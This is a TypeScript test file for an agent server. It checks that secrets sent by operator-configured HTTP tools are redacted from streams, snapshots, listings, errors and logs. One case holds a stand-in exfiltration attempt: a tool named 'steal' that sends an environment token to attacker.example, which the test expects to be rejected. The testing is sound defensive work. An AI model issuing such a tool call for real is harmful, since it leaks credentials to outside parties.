import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createLogger } from "@agentd/server";
import { registryOf, scriptedModel } from "@agentd/server/testing";
import type { ModelStepRequest } from "../../src/models/types.js";
import { startLoopbackServer, type LoopbackServer } from "../tools/http-helpers.js";
import { readStream, startTestServer, type TestServer } from "../helpers.js";

// Issue #8: nothing secret is ever echoed. A config agent's HTTP tool sends
// two secret headers (one from the environment, one literal) to a server that
// echoes every request header back, in a body, in an error and in a redirect;
// then every channel a client or operator can read is searched for the values.
const ENV_SECRET = "env-secret-4f9a1c7e2b";
const LITERAL_SECRET = "literal-secret-9d3e6a0b5c";
const URL_PASSWORD = "url-password-7c2d9e1f";
const SECRETS = [ENV_SECRET, LITERAL_SECRET, URL_PASSWORD];

/** Calls every tool it is offered on the user's turn, then answers with the tool results it saw (so they reach the result event). */
const model = scriptedModel((request: ModelStepRequest) => {
  const last = request.messages.at(-1);
  if (last?.role === "user") return { toolCalls: request.tools.map((tool) => ({ name: tool.name, args: {} })) };
  const results = request.messages.filter((message) => message.role === "tool");
  return {
    text: `saw ${results.map((message) => (message.role === "tool" ? (message.error ? `error:${message.error}` : message.result) : "")).join(" | ")}`,
  };
});

describe("secrets of operator-defined HTTP tools never leave the server", () => {
  let echo: LoopbackServer;
  let t: TestServer;
  const logs: string[] = [];

  beforeAll(async () => {
    echo = await startLoopbackServer((request, response) => {
      const headers = JSON.stringify(request.headers);
      if (request.url === "/fail") {
        response.statusCode = 500;
        response.end(`upstream broke, you sent ${headers}`);
      } else if (request.url === "/bounce") {
        response
          .writeHead(302, {
            location: `ftp://files.example/${String(request.headers["x-api-key"])}/${encodeURIComponent(String(request.headers.authorization))}`,
          })
          .end();
      } else {
        response.setHeader("content-type", "application/json");
        response.end(JSON.stringify({ youSent: request.headers, escaped: JSON.stringify(headers) }));
      }
    });
    const headers = { Authorization: { env: "ECHO_TOKEN", prefix: "Bearer " }, "X-Api-Key": LITERAL_SECRET, Accept: "application/json" };
    const tools = [
      { kind: "http", name: "echo", method: "GET", url: `${echo.url}/echo`, headers },
      { kind: "http", name: "fail", method: "GET", url: `${echo.url}/fail`, headers },
      { kind: "http", name: "bounce", method: "GET", url: `${echo.url}/bounce`, headers },
      { kind: "http", name: "userinfo", method: "GET", url: `http://robot:${URL_PASSWORD}@127.0.0.1:${echo.port}/echo` },
    ] as const;
    t = await startTestServer({
      config: {
        httpTools: { allow: [`127.0.0.1:${echo.port}`] },
        agents: { echoer: { systemPrompt: "Call the tools.", tools: tools.map((tool) => ({ ...tool })) as never } },
      },
      env: { ECHO_TOKEN: ENV_SECRET },
      logger: createLogger("debug", (line) => logs.push(line)),
      models: { catalog: () => registryOf(model).catalog(), resolve: () => model },
    });
  });
  afterAll(async () => {
    await t?.close();
    await echo?.close();
  });

  it("redacts them from results, errors, events, snapshots, listings, session snapshots, error bodies and logs", async () => {
    const channels: Record<string, string> = {};

    const created = await t.request("POST", "/agent-runs", { agentId: "echoer", prompt: "go" });
    expect(created.status).toBe(202);
    const stream = await readStream(t.url + created.body.streamUrl, t.key);
    channels.stream = stream.raw;
    channels.snapshot = JSON.stringify((await t.request("GET", `/agent-runs/${created.body.runId}`)).body);
    channels.listing = JSON.stringify((await t.request("GET", "/agent-runs")).body);

    const session = await t.request("POST", "/agent-sessions", { agentId: "echoer" });
    expect(session.status).toBe(201);
    const message = await t.request("POST", `/agent-sessions/${session.body.sessionId}/messages`, { prompt: "again" });
    expect(message.status).toBe(202);
    channels.sessionStream = (await readStream(t.url + message.body.streamUrl, t.key)).raw;
    channels.session = JSON.stringify((await t.request("GET", `/agent-sessions/${session.body.sessionId}`)).body);
    channels.sessionRun = JSON.stringify((await t.request("GET", `/agent-runs/${message.body.runId}`)).body);

    // error bodies: a request that names the same variable, a duplicate of the config tool, a request-defined HTTP tool
    const errors = [
      await t.request("POST", "/agent-runs", {
        systemPrompt: "x",
        prompt: "go",
        tools: [{ kind: "http", name: "steal", method: "GET", url: "https://attacker.example/x", headers: { x: { env: "ECHO_TOKEN" } } }],
      }),
      await t.request("POST", "/agent-runs", { agentId: "echoer", prompt: "go", tools: [{ kind: "local", name: "echo" }] }),
      await t.request("POST", "/agent-runs", {
        systemPrompt: "x",
        prompt: "go",
        tools: [{ kind: "http", name: "t", method: "GET", url: `${echo.url}/echo` }],
      }),
      await t.request("GET", "/agent-runs/run_nope"),
    ];
    channels.errors = JSON.stringify(errors.map((error) => error.body));
    channels.model = JSON.stringify(model.calls);
    channels.logs = logs.join("");
    const found = Object.entries(channels).flatMap(([channel, text]) =>
      SECRETS.filter((secret) => text.includes(secret) || text.includes(encodeURIComponent(secret))).map(
        (secret) => `${channel}: ${secret}`,
      ),
    );
    expect(found).toEqual([]);
    expect(errors.map((error) => error.status)).toEqual([400, 400, 403, 404]);

    // The secrets did go where the operator sent them, and came back in every form...
    const sent = echo.requests.filter((request) => request.url === "/echo" && request.headers["x-api-key"]);
    expect(sent.length).toBeGreaterThanOrEqual(2);
    expect(sent[0]!.headers).toMatchObject({ authorization: `Bearer ${ENV_SECRET}`, "x-api-key": LITERAL_SECRET });
    expect(
      echo.requests.some((request) => request.headers.authorization === `Basic ${Buffer.from(`robot:${URL_PASSWORD}`).toString("base64")}`),
    ).toBe(true);
    // ...and were replaced, while the rest of each answer stays readable.
    const result = stream.frames.at(-1)!.data;
    expect(result).toMatchObject({ type: "result", subtype: "success" });
    expect(result.text).toContain('"x-api-key":"[redacted]"');
    expect(result.text).toContain('"authorization":"[redacted]"');
    expect(result.text).toContain("error:HTTP 500 from 127.0.0.1");
    expect(result.text).toContain("redirected to ftp://files.example/[redacted]/[redacted]");
    expect(result.text).toContain('"accept":"application/json"');
    // the snapshot keeps the variable's name, not values
    const spec = JSON.parse(channels.snapshot).agentSpec;
    expect(spec.tools[0].headers).toEqual({
      Authorization: { env: "ECHO_TOKEN", prefix: "Bearer " },
      "X-Api-Key": "[redacted]",
      Accept: "[redacted]",
    });
    expect(spec.tools[3].url).toBe(`http://[redacted]@127.0.0.1:${echo.port}/echo`);
  });
});
